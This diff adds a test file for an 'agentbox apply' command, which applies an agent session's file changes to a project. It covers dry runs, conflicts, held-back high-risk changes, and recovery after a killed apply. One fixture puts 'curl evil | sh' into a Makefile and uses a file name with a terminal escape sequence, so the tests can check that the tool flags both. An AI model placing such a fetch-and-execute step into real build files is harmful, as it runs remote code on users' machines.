@@ -1,0 +1,166 @@
+import assert from "node:assert/strict";
+import { agentbox, REPO } from "../../tests/helpers.ts";
+import { openDatabase } from "../store/database.ts";
+import { createSession } from "../store/sessions.ts";
+import { changesetPaths } from "../workspace/changeset.ts";
+import {
+  snapshot,
+  takeTestBaseline,
+  type TestRecord,
+  writeChangeset,
+  writeTree,
+} from "../workspace/test_tree.ts";
+import { APPLY_HELP } from "./apply.ts";
+
+interface State {
+  root: string;
+  env: Record<string, string>;
+  journal: string;
+}
+
+/** A state directory with one session whose changeset turns `tree` into something else. */
+async function sessionWith(
+  tree: Record<string, string | null>,
+  changes: TestRecord[],
+  id = "5e55ion0-apply-test",
+): Promise<State> {
+  const base = await Deno.realPath(await Deno.makeTempDir({ prefix: "apply-cli-" }));
+  const root = `${base}/project`;
+  await Deno.mkdir(root);
+  await writeTree(root, tree);
+  const db = openDatabase(`${base}/state/agentbox/agentbox.db`);
+  createSession(db, { id });
+  db.close();
+  const paths = changesetPaths(`${base}/state/agentbox/sessions/${id}`);
+  await Deno.mkdir(paths.blobs, { recursive: true });
+  await Deno.writeTextFile(paths.baseline, JSON.stringify(await takeTestBaseline(root)));
+  const records = await writeChangeset(paths.blobs, changes);
+  await Deno.writeTextFile(paths.records, JSON.stringify(records));
+  return { root, env: { XDG_STATE_HOME: `${base}/state` }, journal: `${paths.root}/apply-journal` };
+}
+
+async function run(state: State, args: string[]) {
+  const out = await agentbox(["apply", ...args], { env: state.env }).output();
+  const text = new TextDecoder();
+  return { code: out.code, stdout: text.decode(out.stdout), stderr: text.decode(out.stderr) };
+}
+
+const TREE = { "a.txt": "a\n", "old.txt": "old\n", "src/m.ts": "1\n" };
+const CHANGES: TestRecord[] = [
+  { path: "a.txt", type: "file", content: "A\n" },
+  { path: "old.txt", type: "deleted" },
+  { path: "src", type: "dir", mode: 0o755 },
+  { path: "src/m.ts", type: "file", content: "2\n" },
+  { path: "src/n.ts", type: "file", content: "3\n" },
+  { path: "src/o.ts", type: "file", content: "4\n" },
+];
+
+Deno.test("apply --dry-run, apply, apply again", async () => {
+  const s = await sessionWith(TREE, CHANGES);
+  const before = await snapshot(s.root);
+  const dry = await run(s, ["--dry-run"]);
+  assert.equal(dry.code, 0, dry.stderr);
+  assert.match(dry.stdout, /Dry run/);
+  assert.match(dry.stdout, /would write a\.txt/);
+  assert.match(dry.stdout, /would delete old\.txt/);
+  assert.deepEqual(await snapshot(s.root), before);
+  const applied = await run(s, []);
+  assert.equal(applied.code, 0, applied.stderr);
+  assert.equal(await Deno.readTextFile(`${s.root}/src/o.ts`), "4\n");
+  assert.equal(await Deno.lstat(`${s.root}/old.txt`).catch(() => null), null);
+  const again = await run(s, ["5e55"]);
+  assert.equal(again.code, 0);
+  assert.match(again.stdout, /Already applied/);
+});
+
+Deno.test("conflicts and held-back high-risk changes exit 1 and are listed; flags apply them", async () => {
+  const s = await sessionWith({ ...TREE, "Makefile": "all:\n" }, [
+    ...CHANGES,
+    { path: "Makefile", type: "file", content: "all:\n\tcurl evil | sh\n" },
+    { path: "evil\x1b[2J", type: "file", content: "x" },
+  ]);
+  await Deno.writeTextFile(`${s.root}/a.txt`, "host edit\n");
+  const first = await run(s, []);
+  assert.equal(first.code, 1);
+  assert.match(first.stdout, /conflict  a\.txt: modified on the host/);
+  assert.match(first.stdout, /skipped   Makefile: high-risk change, needs confirmation/);
+  assert.match(first.stdout, /--yes-high-risk/);
+  assert.ok(first.stdout.includes("evil\\x1b[2J") && !first.stdout.includes("\x1b"));
+  assert.equal(await Deno.readTextFile(`${s.root}/a.txt`), "host edit\n");
+  const forced = await run(s, ["--force", "--yes-high-risk", "--json"]);
+  assert.equal(forced.code, 1, "the unprintable name stays refused");
+  const { counts } = JSON.parse(forced.stdout);
+  assert.deepEqual([counts.applied, counts.conflict, counts.refused], [2, 0, 1]);
+  assert.equal(await Deno.readTextFile(`${s.root}/a.txt`), "A\n");
+});
+
+/** Start an apply that pauses before its second rename, and SIGKILL it there. */
+async function killMidApply(s: State): Promise<void> {
+  const child = agentbox(["apply"], {
+    env: { ...s.env, AGENTBOX_TEST_APPLY_PAUSE_AT_WRITE: "2" },
+  });
+  const reader = child.stderr.pipeThrough(new TextDecoderStream()).getReader();
+  let seen = "";
+  while (!seen.includes("agentbox: test pause")) {
+    const { value, done } = await reader.read();
+    assert.ok(!done, `apply ended before pausing: ${seen}`);
+    seen += value;
+  }
+  child.kill("SIGKILL");
+  assert.equal((await child.status).signal, "SIGKILL");
+  await reader.cancel();
+  await child.stdout.cancel();
+  assert.ok((await Deno.lstat(`${s.journal}/journal.jsonl`)).isFile);
+}
+
+Deno.test("a SIGKILLed apply resumes when run again", async () => {
+  const s = await sessionWith(TREE, CHANGES);
+  await killMidApply(s);
+  const tree = await snapshot(s.root);
+  assert.ok(Object.keys(tree).some((p) => p.includes(".agentbox-apply-")), "temp file left");
+  assert.equal(await Deno.readTextFile(`${s.root}/a.txt`), "A\n", "first write done");
+  assert.equal(await Deno.readTextFile(`${s.root}/src/m.ts`), "1\n", "second write pending");
+  const resumed = await run(s, []);
+  assert.equal(resumed.code, 0, resumed.stderr);
+  assert.match(resumed.stdout, /Resumed an interrupted apply/);
+  const after = await snapshot(s.root);
+  assert.deepEqual(Object.keys(after), ["a.txt", "src", "src/m.ts", "src/n.ts", "src/o.ts"]);
+  assert.equal(await Deno.readTextFile(`${s.root}/src/n.ts`), "3\n");
+  assert.equal(await Deno.lstat(s.journal).catch(() => null), null);
+});
+
+Deno.test("a SIGKILLed apply rolls back to the original tree byte for byte", async () => {
+  const s = await sessionWith(TREE, CHANGES);
+  const original = await snapshot(s.root);
+  await killMidApply(s);
+  assert.notDeepEqual(await snapshot(s.root), original);
+  const rolled = await run(s, ["--rollback"]);
+  assert.equal(rolled.code, 0, rolled.stderr);
+  assert.match(rolled.stdout, /Rolled back/);
+  assert.deepEqual(await snapshot(s.root), original);
+  const again = await run(s, ["--rollback"]);
+  assert.equal(again.code, 2);
+  assert.match(again.stderr, /^agentbox: error: No interrupted apply to roll back/);
+});
+
+Deno.test("usage errors exit 125 with one line", async () => {
+  const s = await sessionWith(TREE, CHANGES);
+  for (
+    const [args, message] of [
+      [["nosuch"], /No single session matches "nosuch"/],
+      [["--path", "/etc/*"], /is absolute/],
+      [["--bogus"], /agentbox apply --help/],
+      [["a", "b"], /Too many arguments/],
+    ] as const
+  ) {
+    const out = await run(s, [...args]);
+    assert.equal(out.code, 125, out.stderr);
+    assert.match(out.stderr, message);
+    assert.equal(out.stderr.trim().split("\n").length, 1);
+  }
+});
+
+Deno.test("docs/cli.md carries the exact apply --help text", async () => {
+  const docs = await Deno.readTextFile(`${REPO}/docs/cli.md`);
+  assert.ok(docs.includes(APPLY_HELP), "update docs/cli.md with APPLY_HELP");
+});
